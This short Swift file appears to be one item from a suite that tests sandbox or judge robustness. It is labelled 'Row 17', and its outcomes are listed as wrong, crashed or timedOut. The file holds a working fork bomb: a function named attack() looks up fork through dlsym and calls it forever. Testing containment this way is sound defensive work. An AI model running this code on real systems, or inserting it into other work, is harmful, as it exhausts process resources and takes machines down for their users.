// Row 17: as many processes as the system gives.
// Found: wrong crashed timedOut

import Foundation

func attack() {
  typealias Call = @convention(c) () -> Int32
  guard let address = dlsym(dlopen(nil, RTLD_NOW), "fork") else { return }
  let fork = unsafeBitCast(address, to: Call.self)
  while true { _ = fork() }
}
